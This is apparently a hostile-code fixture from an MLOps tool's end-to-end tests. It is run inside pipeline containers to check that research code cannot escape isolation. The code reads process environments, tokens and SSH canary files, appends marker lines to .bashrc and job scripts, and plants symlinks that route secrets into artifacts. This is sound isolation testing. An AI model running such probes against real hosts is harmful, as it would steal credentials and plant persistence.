"""Hostile research code for every stage (issue 17.3): what a student's code, or a package it pulled
in, could try from inside its container against the run's host side on the cluster.

tests/e2e/test_runtimes_e2e.py copies this file into the stage folders of a project variant as
hostile.py, with hostile_targets.json (the host paths an attacker can read from the repository's
mlops.toml: the run directories, the cluster user's home, a file in the host's /tmp; and the pid of
another process of the user, as `ps` would show it):

    params  ENTRYPOINT python /app/hostile.py params   (runs the real `mlops params expand` first)
    data    prepare.py = `hostile.run("data")` + the real prepare (real_prepare.py)
    model   train.py   = `hostile.run("model")` + the real training (real_train.py)

Every attempt is recorded as "<what>: GOT <what was read or done>" or "<what>: <error type>", and
everything read is written where it travels to the artifacts (a canary it reached would show up):
params as a hex LEAK= line in every env file (the model's environment), data as data/hostile-data.txt
(the model copies it), model as results/<id>/hostile-*.txt. It also plants links: params replaces
the first configuration's env file with a link to the user's canary env file, data and model link
to the trigger token, the home directory and the canary from data/ and results/<id>/.
Standard library only (python3 of the images).
"""

from __future__ import annotations

import glob
import json
import os
import subprocess
import sys

SCRIPTS = ["task.sh", "stage.sh", "notify.sh", "runner.sh", "submit_slurm.sh", "model-1.argv", "params.argv",
           "data.argv", "model-1-0.sbatch", "notify-1.sbatch"]  # fmt: skip
SECRETS = ["state/trigger-token", "state/stage.env", "state/jobs.json", "run.json"]
MARK = "\n# planted by hostile research code\n"


def _read(path: str) -> str:
    with open(path, "rb") as fh:
        return fh.read(4096).decode(errors="replace")


def _append(path: str) -> str:
    with open(path, "a") as fh:
        fh.write(MARK)
    return "WROTE"


def _ls(path: str) -> str:
    return " ".join(sorted(os.listdir(path))[:60])


def probe(stage: str, t: dict) -> list[str]:
    """Every attempt of this stage; the list of "<what>: <outcome>" lines."""
    report: list[str] = []

    def attempt(what: str, fn, *args) -> None:
        try:
            report.append(f"{stage} {what}: GOT {fn(*args)!r}"[:3000])
        except Exception as exc:  # the expected outcome: not there, not allowed
            report.append(f"{stage} {what}: {type(exc).__name__}")

    home = t["home"]
    roots = ["", "/project", "/project/.."]  # the host paths as they are; the run dir through the mount
    pids = sorted(p for p in os.listdir("/proc") if p.isdigit())
    report.append(f"{stage} visible pids: {' '.join(pids)}")
    for pid in pids:  # another process of the same user: its root, cwd, environment, command line
        roots.append(f"/proc/{pid}/root")
        attempt(f"read /proc/{pid}/environ", _read, f"/proc/{pid}/environ")
        attempt(f"read /proc/{pid}/cmdline", _read, f"/proc/{pid}/cmdline")
        attempt(f"ls /proc/{pid}/cwd", _ls, f"/proc/{pid}/cwd")
        attempt(f"read /proc/{pid}/cwd/victim.txt", _read, f"/proc/{pid}/cwd/victim.txt")
    for root in roots:
        prefix = root if root.startswith("/proc") else ""
        bases = [root] if root.startswith("/project") else [prefix + run for run in t["runs"]]
        for base in bases:  # this run and the others
            for rel in SECRETS:
                attempt(f"read {base}/{rel}", _read, f"{base}/{rel}")
            for name in SCRIPTS:
                attempt(f"append {base}/state/jobs/{name}", _append, f"{base}/state/jobs/{name}")
            for env in glob.glob(f"{base}/envs/*.env"):
                attempt(f"read {env}", _read, env)
            attempt(f"ls {base}/results", _ls, f"{base}/results")
        attempt(f"ls {prefix}{home}/.ssh", _ls, f"{prefix}{home}/.ssh")
        attempt(f"read {prefix}{home}/.ssh/canary.env", _read, f"{prefix}{home}/.ssh/canary.env")
        attempt(f"append {prefix}{home}/.bashrc", _append, f"{prefix}{home}/.bashrc")
        attempt(f"read {prefix}{t['tmp_canary']}", _read, f"{prefix}{t['tmp_canary']}")
    # a process of the user outside (the test's victim): can this code signal it? (signal 0: no harm)
    attempt(f"signal 0 to the victim {t['victim_pid']}", os.kill, t["victim_pid"], 0)
    attempt("ls /tmp", _ls, "/tmp")
    attempt("ls /home", _ls, "/home")
    attempt("ls /project", _ls, "/project")
    report.append(f"{stage} environment: {sorted(os.environ.items())!r}"[:6000])
    return report


def _link(target: str, name: str) -> None:
    try:
        if os.path.lexists(name):
            os.remove(name)
        os.symlink(target, name)
    except OSError:
        pass


def run(stage: str) -> None:
    """The attack of `stage`; its findings go where they reach the artifacts (see the module doc)."""
    t = json.load(open("/app/hostile_targets.json"))
    project = os.environ.get("PROJECT_DIR", "/project")
    report = probe(stage, t)
    if stage == "params":
        envs = f"{project}/envs"
        leak = "LEAK=" + "\n".join(report)[:20000].encode().hex()  # an env value stays < 128 KiB
        ids = open(f"{envs}/ids.txt").read().split()
        for cid in ids[1:]:
            with open(f"{envs}/{cid}.env", "a") as fh:
                fh.write(leak + "\n")
        # the first configuration's env file: a link to a host file of NAME=value lines
        _link(f"{t['home']}/.ssh/canary.env", f"{envs}/{ids[0]}.env")
        _link("../state/trigger-token", f"{envs}/token.env")
    elif stage == "data":
        data = f"{project}/data"
        with open(f"{data}/hostile-data.txt", "w") as fh:
            fh.write("\n".join(report) + "\n")
        _link("../state/trigger-token", f"{data}/token")
        _link(f"{t['home']}/.ssh", f"{data}/ssh")
    else:
        out = os.environ["RESULT_DIR"]
        attempt_lines = list(report)
        for name in ("token", "ssh/canary.env"):  # data's links, from inside
            try:
                attempt_lines.append(f"model read data/{name}: GOT {_read(f'{project}/data/{name}')!r}")
            except Exception as exc:
                attempt_lines.append(f"model read data/{name}: {type(exc).__name__}")
        for what, fn in (
            ("append data/series.csv", lambda: _append(f"{project}/data/series.csv")),
            ("write results/..", lambda: open(f"{out}/../planted.txt", "w").write("x")),
            ("link data into results", lambda: os.link(f"{project}/data/series.csv", f"{out}/hard")),
        ):
            try:
                attempt_lines.append(f"model {what}: GOT {fn()!r}")
            except Exception as exc:
                attempt_lines.append(f"model {what}: {type(exc).__name__}")
        leak = bytes.fromhex(os.environ.get("LEAK", "")).decode(errors="replace")
        try:
            data_findings = _read(f"{project}/data/hostile-data.txt")
        except OSError:
            data_findings = ""
        for name, text in (("model", "\n".join(attempt_lines)), ("params", leak), ("data", data_findings)):
            with open(f"{out}/hostile-{name}.txt", "w") as fh:
                fh.write(text + "\n")
        _link("../../state/trigger-token", f"{out}/leak-token")
        _link(f"{t['home']}/.ssh/canary.env", f"{out}/leak-canary")
        _link(f"{t['home']}/.ssh", f"{out}/leak-ssh")
        print("\n".join(attempt_lines)[-4000:])


if __name__ == "__main__":  # the params stage: the real expansion first, then the attack
    subprocess.run(["mlops", "params", "expand", "--params", "parameters.json"], check=True)
    run(sys.argv[1])
